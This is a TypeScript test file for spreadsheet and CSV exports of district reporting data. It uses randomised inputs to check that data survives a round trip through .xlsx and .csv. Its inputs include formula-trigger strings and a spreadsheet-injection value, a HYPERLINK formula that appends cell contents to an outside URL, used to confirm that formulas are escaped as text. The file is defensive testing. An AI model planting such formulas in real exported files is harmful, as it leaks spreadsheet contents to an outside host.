import fc from 'fast-check'
import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, it, test } from 'vitest'

import { sampleDistrict } from '../../../mocks/sample/sample-district.ts'
import { makeFigure, makeIndicator, makeObservation } from '../../../test/builders.ts'
import { NOTHING, publishedFrom } from '../../../test/sheet-codec.ts'
import { QUALIFIERS } from '../../domain/figure.ts'
import { DEFAULT_THRESHOLDS, FREQUENCIES, type Indicator } from '../../domain/indicator.ts'
import { type Observation, STATED_FIELDS } from '../../domain/observation.ts'
import { periodOf } from '../../domain/period.ts'
import { DIRECTIVE_STATES } from '../../domain/report.ts'
import { SUCCESSION_KINDS } from '../../domain/succession.ts'
import { LIMITS, TARGET_BASES } from '../../domain/target.ts'
import { UNIT_KINDS } from '../../domain/unit.ts'
import { en } from '../../language/catalogues/en.ts'
import type { Language } from '../../language/catalogues/language.ts'
import { vi } from '../../language/catalogues/vi.ts'
import { asTyped, csv } from '../../language/formats/csv.ts'
import type { SentenceContext } from '../../language/sentences/phrases.ts'
import { type PublishedData, publishedTables } from './published-sheets.ts'
import { rowsWithHeadings } from './sheet.ts'
import { dataSheet, workbook } from './workbook.ts'

const CONTEXTS = {
  vi: { text: vi, language: 'vi' },
  en: { text: en, language: 'en' },
} as const satisfies Record<Language, SentenceContext>
async function throughXlsx(data: PublishedData, context: SentenceContext): Promise<PublishedData> {
  const sheets = publishedTables(data, context).map(dataSheet)
  const file = await workbook(sheets, { title: '', subject: '' })
  const read = await readXlsx(await file.arrayBuffer())
  return publishedFrom(read.sheets, context)
}

function throughCsv(data: PublishedData, context: SentenceContext): PublishedData {
  const sheets = publishedTables(data, context).map((table) => ({
    name: table.name,
    rows: parseCsv(csv(rowsWithHeadings(table)), { delimiter: ',' }).map((row) =>
      row.map((cell) => asTyped(String(cell))),
    ),
  }))
  return publishedFrom(sheets, context)
}

const WAYS = [
  ['.xlsx', throughXlsx],
  ['.csv', throughCsv],
] as const

// What people type, and what somebody who means harm does.
const words = fc.oneof(
  fc.string({ minLength: 1, maxLength: 40 }),
  fc
    .string({ minLength: 1, maxLength: 40, unit: 'binary' })
    .map((each) => each.replace(/\0/g, '·')),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'=", '|', '#N/A', '_x0041_'),
      fc.string(),
    )
    .map((all) => all.join('')),
)
const month = fc
  .tuple(fc.integer({ min: 2000, max: 2099 }), fc.integer({ min: 1, max: 12 }))
  .map(([year, number]) => periodOf(year, number))
const id = fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/)
const value = fc.oneof(
  fc.integer({ min: -1000, max: 1_000_000_000 }),
  fc.integer({ min: 0, max: 9_000_000 }).map((million) => million * 1e6),
  fc.double({ min: -1000, max: 1e15, noNaN: true }).map((each) => (each === 0 ? 0 : each)),
)
const figure = fc.record(
  {
    value,
    qualifier: fc.constantFrom(...QUALIFIERS),
    estimated: fc.boolean(),
    word: fc.oneof(fc.constantFrom('hơn', 'ngót', 'gần', 'không dưới', 'từ … trở lên'), words),
    high: value,
    digit: fc.constantFrom(0.1, 1, 1e6, 1e9),
  },
  { requiredKeys: ['value', 'qualifier', 'estimated'] },
)
const place = fc.record({
  field: fc.constantFrom(...STATED_FIELDS),
  start: fc.nat(200_000),
  end: fc.nat(200_000),
})
const origin = fc.constantFrom('reported', 'derived', 'illustrative')
const observation: fc.Arbitrary<Observation> = fc.record(
  {
    indicatorId: id,
    unitId: id,
    period: month,
    month: fc.option(figure),
    yearToDate: fc.option(figure),
    statedPercent: fc.option(
      fc.tuple(figure, fc.constantFrom(...TARGET_BASES)).map(([each, base]) => ({ ...each, base })),
    ),
    statedGrowth: fc
      .tuple(figure, fc.constantFrom('increase', 'decrease', 'ratio'))
      .map(([each, as]) => ({ ...each, as })),
    origin,
    scopeAssumed: fc.boolean(),
    cutOff: fc.option(fc.constantFrom('2021-04-14', '2020-02-29')),
    evidence: fc.array(place, { maxLength: 3 }),
    note: words,
  },
  {
    requiredKeys: [
      'indicatorId',
      'unitId',
      'period',
      'month',
      'yearToDate',
      'statedPercent',
      'origin',
      'scopeAssumed',
      'cutOff',
      'evidence',
    ],
  },
)
const localized = fc.record({ vi: words, en: words })
const indicator: fc.Arbitrary<Indicator> = fc.record(
  {
    id,
    name: localized,
    group: id,
    accumulation: fc.constantFrom('flow', 'stock', 'rate'),
    direction: fc.constantFrom('up', 'down'),
    measure: fc.record({
      kind: fc.constantFrom('count', 'money', 'percent', 'amount'),
      name: localized,
    }),
    body: words,
    profile: fc.oneof(
      fc.constantFrom({ kind: 'linear' } as const, { kind: 'last-year' } as const),
      fc
        .array(fc.nat(100), { minLength: 12, maxLength: 12 })
        .map((weights) => ({ kind: 'weights', weights }) as const),
    ),
    thresholds: fc.constantFrom(DEFAULT_THRESHOLDS, { ahead: 1.25, onPace: 0.9 }),
    definition: words,
    since: month,
    closedFrom: month,
    frequency: fc.constantFrom(...FREQUENCIES),
    partOf: id,
    hasAllParts: fc.constant(true as const),
    unitKinds: fc.uniqueArray(fc.constantFrom(...UNIT_KINDS), { minLength: 1 }),
    unitIds: fc.uniqueArray(id, { minLength: 1, maxLength: 3 }),
  },
  {
    requiredKeys: [
      'id',
      'name',
      'group',
      'accumulation',
      'direction',
      'measure',
      'body',
      'profile',
      'thresholds',
    ],
  },
)
const unit = fc.record(
  {
    id,
    kind: fc.constantFrom(...UNIT_KINDS),
    name: localized,
    parentId: fc.option(id),
    since: month,
    closedFrom: month,
  },
  { requiredKeys: ['id', 'kind', 'name', 'parentId'] },
)
const data: fc.Arbitrary<PublishedData> = fc.record({
  units: fc.array(unit, { maxLength: 3 }),
  pastUnits: fc.array(
    fc.tuple(unit, month).map(([each, until]) => ({ ...each, until })),
    { maxLength: 2 },
  ),
  successions: fc.array(
    fc.record(
      {
        id,
        kind: fc.constantFrom(...SUCCESSION_KINDS),
        from: month,
        predecessorIds: fc.uniqueArray(id, { minLength: 1, maxLength: 3 }),
        successorIds: fc.uniqueArray(id, { maxLength: 3 }),
        document: words,
      },
      { requiredKeys: ['id', 'kind', 'from', 'predecessorIds', 'successorIds'] },
    ),
    { maxLength: 2 },
  ),
  events: fc.array(
    fc.record({ id, unitId: id, period: month, indicatorId: fc.option(id), text: words }),
    { maxLength: 2 },
  ),
  sections: fc.array(fc.record({ id, name: localized }), { maxLength: 3 }),
  indicators: fc.array(indicator, { maxLength: 3 }),
  pastIndicators: fc.array(
    fc.record(
      { id, name: localized, definition: words, until: month },
      { requiredKeys: ['id', 'name', 'until'] },
    ),
    { maxLength: 2 },
  ),
  programmes: fc.array(
    fc.record(
      {
        id,
        name: localized,
        document: words,
        span: fc.constantFrom('2021', '2025..2030'),
        indicatorIds: fc.uniqueArray(id, { minLength: 1, maxLength: 4 }),
      },
      { requiredKeys: ['id', 'name', 'indicatorIds'] },
    ),
    { maxLength: 2 },
  ),
  targets: fc.array(
    fc.record(
      {
        indicatorId: id,
        unitId: id,
        span: fc.constantFrom('2021', '2025-H2', '2025-Q3', '2025..2030', '2025-07..2026-03'),
        base: fc.constantFrom(...TARGET_BASES),
        revisedFrom: fc.oneof(fc.constant(''), month),
        figure,
        origin,
        limit: fc.constantFrom(...LIMITS),
        document: words,
        decidedOn: fc.constantFrom('2021-04-14', '2020-02-29'),
        profile: fc.constantFrom({ kind: 'linear' } as const, {
          kind: 'weights' as const,
          weights: [1, 2, 3],
        }),
      },
      {
        requiredKeys: ['indicatorId', 'unitId', 'span', 'base', 'revisedFrom', 'figure', 'origin'],
      },
    ),
    { maxLength: 3 },
  ),
  observations: fc.array(observation, { maxLength: 5 }),
  reports: fc.array(
    fc.record(
      {
        unitId: id,
        period: month,
        status: fc.constantFrom('published', 'reopened'),
        meetingDate: fc.option(fc.constant('2021-05-06')),
        source: fc.option(fc.record({ name: words, url: fc.option(fc.webUrl()) })),
        text: fc.oneof(fc.constant(''), words),
        reopenReason: words,
      },
      { requiredKeys: ['unitId', 'period', 'status', 'meetingDate', 'source', 'text'] },
    ),
    { maxLength: 3 },
  ),
  directives: fc.array(
    fc.record(
      {
        id,
        unitId: id,
        period: month,
        text: words,
        assignee: fc.option(words),
        due: fc.option(fc.constant('2021-05-31')),
        state: fc.constantFrom(...DIRECTIVE_STATES),
        carriedFrom: id,
        slideId: id,
        meetingId: id,
      },
      { requiredKeys: ['id', 'unitId', 'period', 'text', 'assignee', 'due', 'state'] },
    ),
    { maxLength: 3 },
  ),
})

describe.each(WAYS)('published data downloaded as %s', (_, through) => {
  it('is read back as it was, whatever it says', async () => {
    await fc.assert(
      fc.asyncProperty(data, fc.constantFrom('vi', 'en'), async (all, language) => {
        expect(await through(all, CONTEXTS[language])).toEqual(all)
      }),
      { numRuns: 60 },
    )
  })

  it('is the whole sample district, to the last figure', async () => {
    const { units, indicators, targets, observations, reports, directives } = sampleDistrict
    const all = { ...NOTHING, units, indicators, targets, observations, reports, directives }
    for (const context of Object.values(CONTEXTS)) expect(await through(all, context)).toEqual(all)
  })

  it('keeps a report as long as one may be', async () => {
    const text = 'đ🌾'.repeat(66_000)
    const report = { ...sampleDistrict.reports[0]!, text }
    const all = { ...NOTHING, reports: [report] }
    expect((await through(all, CONTEXTS.vi)).reports).toEqual([report])
  })
})

test('a formula in a note or a name is a text in the file, and a number below zero a number', async () => {
  const hostile = '=HYPERLINK("http://x/"&A1,"Bấm")'
  const all: PublishedData = {
    ...NOTHING,
    indicators: [makeIndicator({ name: { vi: '@SUM(1)', en: '+1' } })],
    observations: [makeObservation('2021-04', { month: makeFigure(-5), note: hostile })],
  }
  const file = await workbook(publishedTables(all, CONTEXTS.vi).map(dataSheet), {
    title: '=1',
    subject: '',
  })
  const { sheets } = await readXlsx(await file.arrayBuffer())
  const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])])
  expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([])
  expect(sheets[0]?.rows[1]).toEqual(expect.arrayContaining([hostile, '@SUM(1)', -5]))
  const [observations] = publishedTables(all, CONTEXTS.vi)
  const text = csv(rowsWithHeadings(observations!))
  expect(text).toContain(`"'=HYPERLINK(""http://x/""&A1,""Bấm"")"`)
  expect(text).toContain(',-5,')
})

test('a day is a date for Excel, whole and in the order of the country, and its letters elsewhere', async () => {
  const all: PublishedData = {
    ...NOTHING,
    reports: [sampleDistrict.reports.find(({ meetingDate }) => meetingDate)!],
  }
  const tables = publishedTables(all, CONTEXTS.vi)
  const reports = tables.find(({ columns }) => columns.some((each) => each.heading === 'Ngày họp'))!
  const at = reports.columns.findIndex(({ heading }) => heading === 'Ngày họp')
  const day = reports.rows[0]?.[at]
  const file = await workbook([dataSheet(reports)], { title: '', subject: '' })
  const { sheets } = await readXlsx(await file.arrayBuffer(), { readStyles: true })
  const cell = sheets[0]?.rows[1]?.[at]
  expect(cell instanceof Date && cell.toISOString()).toBe(`${day}T00:00:00.000Z`)
  expect(csv(rowsWithHeadings(reports))).toContain(String(day ?? ''))
})
